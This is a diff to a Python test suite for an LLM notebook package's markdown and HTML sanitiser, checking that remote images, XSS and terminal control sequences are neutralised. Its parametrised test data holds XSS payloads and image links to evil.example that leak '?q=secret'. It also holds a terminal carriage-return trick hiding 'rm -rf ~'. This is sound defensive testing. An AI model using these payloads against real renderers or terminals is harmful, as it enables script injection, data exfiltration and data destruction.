@@ -6,7 +6,6 @@ import random
 import re
 import subprocess
 import sys
-from html.parser import HTMLParser
 
 import pytest
 
@@ -20,59 +19,12 @@ from notebook_llm._render import (
     render_markdown,
     render_streaming,
 )
+from tests.support.html_audit import SAFE_TAGS, audit, frontend_render, visible_text
+
+SAFE_TAGS_PLUS_SMALL = SAFE_TAGS | {"small"}
 
 pytest.importorskip("markdown_it")
 pytest.importorskip("nh3")
-
-SAFE_TAGS = {
-    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
-    "hr", "img", "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th",
-    "thead", "tr", "ul",
-}  # fmt: skip
-BAD_URL = re.compile(r"(?:javascript|vbscript|file|data):")
-GOOD_DATA = re.compile(r"data:image/(?:gif|png|jpeg|webp);")
-
-
-class _Audit(HTMLParser):
-    """Collects every tag, attribute and URL in an HTML fragment, and what is wrong."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.tags: list[str] = []
-        self.links: list[tuple[str, dict[str, str | None]]] = []
-        self.problems: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append(tag)
-        self.links.append((tag, dict(attrs)))
-        if tag not in SAFE_TAGS:
-            self.problems.append(f"tag <{tag}>")
-        for name, value in attrs:
-            if name.startswith("on"):
-                self.problems.append(f"handler {name}={value!r}")
-            if name in {"href", "src"}:
-                # What a browser would see: entities decoded (HTMLParser does
-                # that), controls and whitespace dropped, any case.
-                url = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
-                if BAD_URL.match(url) and not GOOD_DATA.match(url):
-                    self.problems.append(f"url {name}={value!r}")
-
-
-def audit(fragment: str) -> _Audit:
-    parser = _Audit()
-    parser.feed(fragment)
-    parser.close()
-    return parser
-
-
-def frontend_render(markdown: str) -> str:
-    """A permissive Markdown frontend: raw HTML on, links not validated (like marked)."""
-    from markdown_it import MarkdownIt
-
-    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
-    md.validateLink = lambda url: True  # type: ignore[method-assign]
-    return md.render(markdown)
-
 
 XSS_PAYLOADS = [
     "<script>alert(1)</script>",
@@ -287,7 +239,7 @@ def test_escape_markdown_keeps_safe_links_and_autolinks() -> None:
     rendered = frontend_render(out)
     assert 'href="https://example.com/?a=1&amp;b=2"' in rendered
     assert '<a href="https://example.com">' in rendered
-    assert '<img src="x.png"' in rendered
+    assert '<a href="x.png">image: i</a>' in rendered  # an image only with remote images on
 
 
 def test_escape_markdown_backslash_escapes() -> None:
@@ -339,6 +291,295 @@ def test_escape_markdown_random_documents_stay_safe() -> None:
         doc = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 30)))
         problems = audit(frontend_render(escape_markdown(doc))).problems
         assert problems == [], (doc, problems)
+
+
+# -- remote images ------------------------------------------------------------
+
+EVIL = "evil.example"
+REMOTE_IMAGES = [
+    "![x](https://evil.example/?q=secret)",
+    "![x](http://evil.example/a.png)",
+    "![x](//evil.example/a.png)",
+    "![x](HTTPS://evil.example/a.png 'title')",
+    "![x](<https://evil.example/a b.png>)",
+    "![x](&#104;ttps://evil.example/a.png)",
+    "![x](https&#58;//evil.example/a.png)",
+    "![multi\nline alt](https://evil.example/a.png)",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "![r][]\n\n[r]: https://evil.example/a.png",
+    "![r]\n\n[r]: https://evil.example/a.png",
+    "![R]\n\n[r]: <https://evil.example/a.png> 'title'",
+    "[![x](https://evil.example/a.png)](https://example.com)",
+    "![x](data:image/png;base64,AAAA oops)\n\n[x]: https://evil.example/a.png",
+    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
+    "| a |\n|---|\n| `x | ![x](https://evil.example/a.png) ` |",
+    "[a](https://example.com/`)![x](https://evil.example/a.png) `",
+    "> ![x](https://evil.example/a.png)",
+    "- ![x](https://evil.example/a.png)",
+    "**![x](https://evil.example/a.png)**",
+    '<img src="https://evil.example/a.png">',
+    '<img srcset="https://evil.example/a.png 1x">',
+    "<picture><source srcset='https://evil.example/a.png'></picture>",
+]
+
+
+@pytest.fixture
+def remote_images_on():
+    _render.set_remote_images(True)
+    yield
+    _render.set_remote_images(False)
+
+
+def test_remote_images_are_off_by_default() -> None:
+    assert _render.remote_images() is False
+
+
+@pytest.mark.parametrize("payload", REMOTE_IMAGES)
+def test_render_markdown_loads_no_remote_image(payload: str) -> None:
+    found = audit(render_markdown(payload))
+    assert found.images == [] and found.problems == []
+
+
+@pytest.mark.parametrize("payload", REMOTE_IMAGES)
+def test_render_streaming_loads_no_remote_image(payload: str) -> None:
+    assert audit(render_streaming(payload)).images == []
+
+
+@pytest.mark.parametrize("payload", REMOTE_IMAGES)
+def test_escape_markdown_loads_no_remote_image_in_a_permissive_frontend(payload: str) -> None:
+    found = audit(frontend_render(escape_markdown(payload)))
+    assert found.images == [] and found.problems == []
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '<img src="https://evil.example/a.png" alt="a">',
+        "<img src=//evil.example/a.png>",
+        "<img src=relative.png>",
+        '<IMG SRC="HTTPS://evil.example/a.png">',
+        '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">',
+    ],
+)
+def test_sanitize_html_drops_remote_image_sources(payload: str) -> None:
+    html = _render.sanitize_html(payload)
+    assert audit(html).images == [] and EVIL not in html
+
+
+@pytest.mark.parametrize(
+    ("markdown", "expected"),
+    [
+        ("![chart](https://example.com/c.png)",
+         '<p><a href="https://example.com/c.png" rel="noopener noreferrer">image: chart</a></p>\n'),
+        ("![](https://example.com/c.png)",
+         '<p><a href="https://example.com/c.png" rel="noopener noreferrer">'
+         "image: https://example.com/c.png</a></p>\n"),
+        ("![a *b*][r]\n\n[r]: //example.com/c.png",
+         '<p><a href="//example.com/c.png" rel="noopener noreferrer">image: a b</a></p>\n'),
+        ("[![logo](https://example.com/l.png)](https://example.com)",
+         '<p><a href="https://example.com" rel="noopener noreferrer">image: logo</a></p>\n'),
+        ('![<b>"x"</b>](https://example.com/c.png)',
+         '<p><a href="https://example.com/c.png" rel="noopener noreferrer">'
+         "image: &lt;b&gt;\"x\"&lt;/b&gt;</a></p>\n"),
+    ],
+)
+def test_render_markdown_shows_a_remote_image_as_a_link(markdown: str, expected: str) -> None:
+    assert render_markdown(markdown) == expected
+
+
+@pytest.mark.parametrize(
+    ("markdown", "expected"),
+    [
+        ("![chart](https://example.com/c.png)", "[image: chart](https://example.com/c.png)"),
+        ("![r]\n\n[r]: https://example.com/c.png", "[image: r]\n\n[r]: https://example.com/c.png"),
+        ("see ![a][r] and \\![b](c)", "see [image: a][r] and \\![b](c)"),
+        ("`![a](b)`", "<code>&#33;&#91;a&#93;&#40;b&#41;</code>"),
+        ("![p](data:image/png;base64,iVBORw0KGgo=)", "![p](data:image/png;base64,iVBORw0KGgo=)"),
+        ("![p](data:image/svg+xml;base64,PHN2Zz4=)",
+         "[image: p]\\(data:image/svg+xml;base64,PHN2Zz4=)"),
+    ],
+)
+def test_escape_markdown_turns_images_into_links(markdown: str, expected: str) -> None:
+    assert escape_markdown(markdown) == expected
+
+
+def test_escape_markdown_keeps_raster_data_images() -> None:
+    found = audit(frontend_render(escape_markdown("![p](data:image/png;base64,iVBORw0KGgo=)")))
+    assert [tag for tag, _ in found.links] == ["p", "img"] and found.images == []
+
+
+@pytest.mark.usefixtures("remote_images_on")
+def test_remote_images_load_once_turned_on() -> None:
+    assert _render.remote_images() is True
+    assert render_markdown("![c](https://example.com/c.png)") == (
+        '<p><img src="https://example.com/c.png" alt="c"></p>\n'
+    )
+    assert escape_markdown("![c](https://example.com/c.png)") == "![c](https://example.com/c.png)"
+    assert _render.sanitize_html('<img src="https://example.com/c.png">') == (
+        '<img src="https://example.com/c.png">'
+    )
+    # Script stays out either way.
+    assert audit(render_markdown("![x](javascript:alert(1))")).problems == []
+    assert audit(_render.sanitize_html("<img src=x onerror=alert(1)>")).problems == []
+
+
+@pytest.fixture
+def nh3_without_attribute_filter(monkeypatch: pytest.MonkeyPatch):
+    """nh3 as it was before ``attribute_filter`` and ``filter_style_properties``."""
+    import nh3
+
+    real = nh3.clean
+
+    def old_clean(html: str, **options: object) -> str:
+        if "attribute_filter" in options or "filter_style_properties" in options:
+            raise TypeError("unexpected keyword argument")
+        return real(html, **options)
+
+    monkeypatch.setattr(nh3, "clean", old_clean)
+    _render._load_sanitizer.cache_clear()
+    yield
+    monkeypatch.undo()
+    _render._load_sanitizer.cache_clear()
+
+
+@pytest.mark.usefixtures("nh3_without_attribute_filter")
+def test_remote_images_without_attribute_filter_in_nh3(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert audit(_render.sanitize_html("<img src=https://evil.example/a.png>")).images == []
+    monkeypatch.setattr(_render, "_remote_images", True)
+    assert "evil.example" in _render.sanitize_html("<img src=https://evil.example/a.png>")
+
+
+# -- markdown_text / markdown_code / markdown_table_cell ----------------------
+
+HOSTILE_NAMES = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "a`<img src=x onerror=alert(1)>`b",
+    "``<svg onload=alert(1)>``",
+    "x` <img src=x onerror=alert(1)> `y",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "![x](https://evil.example/?q=secret)",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "a | b | <img src=x onerror=alert(1)>",
+    "line\n\n<script>alert(1)</script>",
+    "# heading <b>x</b>",
+    "1. <i>x</i>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#106;avascript:alert(1)",
+    "<javascript:alert(1)>",
+    "\\<script>alert(1)\\</script>",
+    "$x$ ~~y~~ **z** _w_",
+    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+]
+
+
+def _flat(text: str) -> str:
+    return " ".join(re.sub(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", "", text.replace("\r", " ")).split())
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+@pytest.mark.parametrize(
+    "context",
+    ["a {} b", "**{}**", "| h | i |\n|---|---|\n| {} | z |", "- {}", "{}", "<small>{}</small>"],
+)
+def test_markdown_text_shows_the_value_as_typed(name: str, context: str) -> None:
+    rendered = frontend_render(context.format(_render.markdown_text(name)))
+    found = audit(rendered, allowed=SAFE_TAGS_PLUS_SMALL)
+    assert found.problems == [] and found.images == []
+    assert not {"a", "img", "code", "em", "s", "h1"} & set(found.tags)
+    assert _flat(name) in visible_text(rendered)
+    if context.startswith("|"):
+        assert rendered.count("<td>") == 2  # the value stays in its cell
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+@pytest.mark.parametrize("context", ["- {}", "| h | i |\n|---|---|\n| {} | z |", "a {}, {} b"])
+def test_markdown_code_shows_the_value_as_code(name: str, context: str) -> None:
+    rendered = frontend_render(context.format(*[_render.markdown_code(name)] * context.count("{}")))
+    found = audit(rendered)
+    assert found.problems == [] and found.images == []
+    assert set(found.tags) <= {"p", "ul", "li", "code", "table", "thead", "tbody", "tr", "th", "td"}
+    codes = re.findall(r"<code>(.*?)</code>", rendered, re.S)
+    assert codes and all(visible_text(code) == _flat(name) for code in codes)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("llamacpp:stories260k", "`llamacpp:stories260k`"),
+        ('get_weather({"city": "Paris"})', '`get_weather({"city": "Paris"})`'),
+        ("a`b", "<code>a&#96;b</code>"),
+        ("f(<x>)", "<code>f&#40;&#60;x&#62;&#41;</code>"),
+        ("a|b", "<code>a&#124;b</code>"),
+        ("two\nlines", "`two lines`"),
+        ("", "<code></code>"),
+    ],
+)
+def test_markdown_code_golden(value: str, expected: str) -> None:
+    assert _render.markdown_code(value) == expected
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("gpt-4o-mini", "gpt-4o-mini"),
+        ("offline:echo · 3 in / 3 out · free", "offline:echo · 3 in / 3 out · free"),
+        ("$0.000123", "\\$0.000123"),
+        ("<b>x</b> & y", "&lt;b&gt;x&lt;/b&gt; &amp; y"),
+        ("a_b*c`d|e[f]~g\\h", "a\\_b\\*c\\`d\\|e\\[f\\]\\~g\\\\h"),
+        ("# h", "\\# h"),
+        ("1. x", "1\\. x"),
+        ("two\n lines\r\x1b[31m", "two lines \\[31m"),
+    ],
+)
+def test_markdown_text_golden(value: str, expected: str) -> None:
+    assert _render.markdown_text(value) == expected
+
+
+@pytest.mark.parametrize("text", [*HOSTILE_NAMES, *REMOTE_IMAGES, *XSS_PAYLOADS])
+def test_markdown_table_cell_stays_in_its_cell(text: str) -> None:
+    row = f"| h | i |\n|---|---|\n| {_render.markdown_table_cell(text)} | z |"
+    rendered = frontend_render(row)
+    found = audit(rendered)
+    assert found.problems == [] and found.images == []
+    assert rendered.count("<td>") == 2 and "<td>z</td>" in rendered
+
+
+def test_markdown_table_cell_keeps_inline_formatting() -> None:
+    assert _render.markdown_table_cell("**bold** `x`\nnext | <b>") == (
+        "**bold** `x` next &#124; &lt;b&gt;"
+    )
+
+
+# -- terminal_text ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("plain\ttext\nnext", "plain\ttext\nnext"),
+        ("\x1b[2J\x1b[31mred", "␛[2J␛[31mred"),
+        ("\x1b]0;pwned\x07title", "␛]0;pwned␇title"),
+        ("\x1b]8;;https://evil.example\x1b\\link", "␛]8;;https://evil.example␛\\link"),
+        ("safe\rrm -rf ~", "saferm -rf ~"),
+        ("a\r\nb", "a\nb"),
+        ("\x9b31mC1 \x90P\x9c", "\ufffd31mC1 \ufffdP\ufffd"),
+        ("bell\x07 back\x08 del\x7f", "bell␇ back␈ del␡"),
+        ("unicode é ✓ 中", "unicode é ✓ 中"),
+    ],
+)
+def test_terminal_text_neutralises_control_characters(text: str, expected: str) -> None:
+    assert _render.terminal_text(text) == expected
+
+
+def test_terminal_text_works_piece_by_piece() -> None:
+    text = "a\x1b]0;t\x07b\r\nc\x9b1m"
+    pieces = [text[i : i + 2] for i in range(0, len(text), 2)]
+    assert "".join(_render.terminal_text(p) for p in pieces) == _render.terminal_text(text)
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", _render.terminal_text(text))
 
 
 # -- close_open_fences / render_streaming -------------------------------------
